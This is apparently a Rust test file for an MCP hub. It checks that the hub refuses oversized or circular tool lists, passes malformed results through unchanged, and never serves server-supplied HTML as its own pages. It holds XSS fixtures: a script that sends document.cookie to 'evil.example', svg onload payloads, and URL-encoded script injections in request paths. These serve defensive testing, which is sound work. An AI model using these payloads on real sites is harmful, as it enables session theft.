//! A38, A42 and A48: servers whose lists have no end, whose results have the wrong shape, or bring pages along.

use crate::harness::{Era, Http, HttpUpstream, Hub, Setup, trials, trials_of_both_eras};
use libtest_mimic::Trial;
use serde_json::{Value, json};
use std::fmt::Write as _;

pub(crate) fn tests() -> Vec<Trial> {
    let mut tests = trials_of_both_eras!("security":
        a42_results_of_the_wrong_shape_are_passed_on,
        a42_results_that_are_no_objects_are_told,
        a48_pages_of_servers_are_passed_on_untouched,
    );
    tests.extend(trials!("security":
        a38_a_hundred_thousand_tools_are_refused,
        a38_a_list_of_fifty_megabytes_is_refused,
        a38_a_list_that_goes_in_circles_is_refused,
        a48_the_hub_itself_shows_no_pages,
    ));
    tests
}

/// A server whose list is not taken is told with its reason, and costs neither memory nor the other server.
async fn list_is_refused(setup: Setup, flags: &[&str], code: &str, word: &str) {
    let entry = json!({"backoff": {"first": "1h", "max": "1h"}});
    let hub = setup.fixture("faulty", flags, entry).fixture("good", &[], json!({})).start().await;
    hub.wait_for_tool("good__echo").await;
    let before = hub.resident_bytes();
    let refused = |server: &Value| server["error"]["code"] == code;
    let server = hub.wait_for("faulty", "the list is refused", refused).await;
    assert_ne!(server["state"], "ready", "{server}");
    assert!(server["error"]["message"].as_str().is_some_and(|message| message.contains(word)), "{server}");
    assert_eq!(server["tools"].as_u64().unwrap_or_default(), 0, "nothing of it is served: {server}");
    assert!(!hub.modern().tool_names().await.iter().any(|name| name.starts_with("faulty__")));
    let grown = hub.resident_bytes().saturating_sub(before) / 1_000_000;
    assert!(grown < 100, "what is refused is not kept: the hub grew by {grown} MB");
    hub.assert_good().await;
}

/// So many tools, each with a description of so many letters, in a file for the fixture.
fn write_tools(setup: &Setup, count: usize, letters: usize) -> String {
    let mut text = "[".to_owned();
    let description = "d".repeat(letters);
    for number in 0..count {
        let comma = if number == 0 { "" } else { "," };
        let tool = format!(r#"{{"name":"t{number}","description":"{description}","inputSchema":{{"type":"object"}}}}"#);
        write!(text, "{comma}{tool}").expect("text can be written to a text");
    }
    std::fs::write(setup.path("tools.json"), text + "]").expect("the folder of the test can be written");
    setup.path_text("tools.json")
}

async fn a38_a_hundred_thousand_tools_are_refused() {
    let setup = Setup::new();
    let file = write_tools(&setup, 100_000, 1);
    // Below the limit of one message, so that it is their number that is refused.
    list_is_refused(setup, &["--tools-file", &file], "T-0213", "10000 items").await;
    let setup = Setup::new();
    let file = write_tools(&setup, 12_000, 1);
    list_is_refused(setup, &["--tools-file", &file, "--page-size", "1000"], "T-0213", "10000 items").await;
}

async fn a38_a_list_of_fifty_megabytes_is_refused() {
    let setup = Setup::new();
    let file = write_tools(&setup, 50, 1_000_000);
    list_is_refused(setup, &["--tools-file", &file], "T-0208", "the limit is").await;
}

async fn a38_a_list_that_goes_in_circles_is_refused() {
    list_is_refused(Setup::new(), &["--same-cursor"], "T-0213", "twice").await;
}

/// The fixture as a child process and over HTTP, in both eras.
async fn four_ways() -> (Hub, Vec<HttpUpstream>) {
    let mut setup = Setup::new().fixture("good", &[], json!({}));
    let mut upstreams = Vec::new();
    for era in ["legacy", "modern"] {
        setup = setup.fixture(era, &["--era", era], json!({}));
        let upstream = HttpUpstream::start(&["--name", era, "--era", era]).await;
        setup = setup.remote(&format!("{era}-http"), &upstream.url, json!({}));
        upstreams.push(upstream);
    }
    (setup.ready().await, upstreams)
}

const WAYS: [&str; 4] = ["legacy", "modern", "legacy-http", "modern-http"];

/// What stands in a result is between the server and the client: the hub reads no more of it than it must, and whatever
/// that looks like, it passes the result on.
async fn a42_results_of_the_wrong_shape_are_passed_on(era: Era) {
    let (hub, _upstreams) = four_ways().await;
    let client = hub.client_of(era).await;
    let wrong = [
        json!({"content": "a text"}),
        json!({"content": null}),
        json!({"content": {"type": "resource_link", "uri": 7}}),
        json!({"content": [7, null, "resource", [], {}]}),
        json!({"content": [{"type": "resource", "resource": "resource"}, {"type": {}, "text": []}]}),
        json!({"content": [{"type": "resource_link", "uri": {"resource": 1}}]}),
        json!({"isError": "perhaps", "content": []}),
        json!({"structuredContent": [1], "_meta": "none"}),
        json!({"content": [], "nextCursor": 1, "ttlMs": "soon", "task": 7}),
        json!({}),
    ];
    for way in WAYS {
        for result in &wrong {
            let reply = client.call(&format!("{way}__answer"), json!({"result": result})).await;
            let mut got = reply.result().clone();
            if era == Era::Modern
                && let Some(object) = got.as_object_mut()
            {
                // The one member that a modern result must have.
                object.remove("resultType");
            }
            assert_eq!(got, *result, "{way}: {}", reply.raw);
        }
        assert_eq!(client.call(&format!("{way}__echo"), json!({"message": "on"})).await.text(), "on", "{way}");
    }
    hub.assert_good().await;
}

/// A result that is no object at all is none of the protocol, in no version.
async fn a42_results_that_are_no_objects_are_told(era: Era) {
    let (hub, _upstreams) = four_ways().await;
    let client = hub.client_of(era).await;
    for way in WAYS {
        for result in [json!("a text"), json!(7), json!([]), json!([{"content": []}]), json!(true), json!(null)] {
            let reply = client.call(&format!("{way}__answer"), json!({"result": result})).await;
            reply.assert_fault(&["T-0209"], way);
        }
        let server = hub.server(way).await;
        assert_eq!((&server["state"], &server["restarts"]), (&json!("ready"), &json!(0)), "{server}");
        assert_eq!(client.call(&format!("{way}__echo"), json!({"message": "on"})).await.text(), "on", "{way}");
    }
    hub.assert_good().await;
}

const PAGE: &str = "<html><script>fetch('https://evil.example/'+document.cookie)</script><svg onload=alert(1)></html>";

async fn a48_pages_of_servers_are_passed_on_untouched(era: Era) {
    let setup = Setup::new();
    let tool = json!({
        "name": "echo", "inputSchema": {"type": "object"}, "description": PAGE,
        "_meta": {"ui": {"resourceUri": "ui://static", "csp": {"connectDomains": ["https://evil.example"]}}},
        "icons": [{"src": "data:image/svg+xml,<svg onload=alert(1)>", "mimeType": "image/svg+xml"}],
    });
    std::fs::write(setup.path("tools.json"), json!([tool]).to_string()).expect("the folder of the test can be written");
    let flags = ["--scheme", "ui", "--tools-file", &setup.path_text("tools.json")];
    let hub = setup.fixture("pages", &flags, json!({})).fixture("good", &[], json!({})).ready().await;
    let client = hub.client_of(era).await;
    let listed = client.list("tools/list", "tools").await;
    let mut listed = listed.into_iter().find(|tool| tool["name"] == "pages__echo").expect("the tool is listed");
    listed["name"] = json!("echo");
    assert_eq!(listed, tool, "the client, which shows it or not, gets it as it is");
    let resources = client.list("resources/list", "resources").await;
    assert!(resources.iter().any(|resource| resource["uri"] == "ui://static"), "{resources:?}");
    let page = json!({"uri": "ui://app/main", "mimeType": "text/html;profile=mcp-app", "text": PAGE});
    let result = json!({"content": [{"type": "resource", "resource": page}, {"type": "text", "text": PAGE}]});
    let reply = client.call("good__answer", json!({"result": result})).await;
    assert_eq!(reply.result()["content"], result["content"], "{}", reply.raw);
    let read = client.request("resources/read", json!({"uri": "ui://static"})).await;
    assert_eq!(read.result()["contents"][0]["uri"], "ui://static", "{}", read.raw);
}

/// Nothing that a server sends is ever a page of the hub's own, which a browser would take for the hub's words.
async fn a48_the_hub_itself_shows_no_pages() {
    let setup = Setup::pair(&["--never-start"], json!({}));
    let hub = setup.start().await;
    hub.wait_for_tool("good__echo").await;
    let text = json!({"text": PAGE, "times": 1});
    hub.call("good__stderr", text).await.result();
    let script = "%3Cscript%3Ealert(1)%3C/script%3E";
    let paths = [
        "/api/v1/servers".to_owned(),
        "/api/v1/servers/good".to_owned(),
        "/api/v1/servers/good/logs".to_owned(),
        format!("/api/v1/servers/{script}"),
        format!("/{script}"),
        format!("/mcp/{script}"),
        "/readyz?verbose".to_owned(),
        "/metrics".to_owned(),
        "/".to_owned(),
    ];
    for path in paths {
        let answer = Http::new("GET", &hub.at(&path)).header("accept", "text/html").send().await;
        let kind = answer.header("content-type").unwrap_or_default().to_owned();
        let plain = ["application/json", "text/plain"].iter().any(|plain| kind.starts_with(plain));
        assert!(plain || answer.body.is_empty(), "{path} is {kind}: {}", answer.text());
    }
}
